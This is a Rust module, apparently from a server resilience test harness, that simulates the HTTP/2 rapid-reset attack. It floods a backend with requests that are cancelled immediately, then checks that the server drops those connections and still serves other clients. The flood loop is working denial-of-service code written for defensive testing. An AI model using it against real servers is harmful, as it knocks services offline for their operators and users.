//! HTTP/2 requests that are taken back at once.

use std::io;

use bytes::Bytes;
use http::Request;

use crate::attack::Attack;
use crate::stage::Stage;
use crate::wire::connect;

pub(super) const ATTACK: Attack = Attack {
    name: "reset_streams",
    does: "begins requests on HTTP/2 connections and takes each back at once",
    holds: "the backend ends such connections at some time, and others are let in and answered as fast as before",
    spreads: true,
    by_peer: false,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &mut Stage) {
    stage.open().await;
    // What is taken back would be answered otherwise.
    let answer = stage.ask(0, "GET", PATH, "", b"").await;
    stage.hold_statuses(&[answer], &[200]);
    wave(stage).await;
    while stage.goes_on() {
        wave(stage).await;
    }
    stage.lets_others_in().await;
}

async fn wave(stage: &mut Stage) {
    let there = &*stage;
    let requests = stage.size(300, 20_000);
    let flood = async |number: usize| {
        let stream = connect(there.server().address(), there.address(number), None).await?;
        let (sender, connection) = h2::client::handshake(stream).await.map_err(io::Error::other)?;
        let connection = tokio::spawn(connection);
        let mut begun = 0;
        while begun < requests {
            let Ok(mut ready) = sender.clone().ready().await else { break };
            let request = Request::get(format!("http://x{PATH}")).body(()).map_err(io::Error::other)?;
            let Ok((_, mut body)) = ready.send_request(request, false) else { break };
            let _ = body.send_data(Bytes::from_static(b"x"), false);
            body.send_reset(h2::Reason::CANCEL);
            begun += 1;
            tokio::task::yield_now().await;
        }
        drop(sender);
        connection.abort();
        Ok::<_, io::Error>(begun)
    };
    for flood in Stage::each(stage.count(4, 20, 100), 10, flood).await {
        let began = flood.as_ref().is_ok_and(|begun| *begun > 0);
        stage.hold(began, || format!("a connection failed before it began: {flood:?}"));
    }
}

const PATH: &str = "/v1/openapi.json";
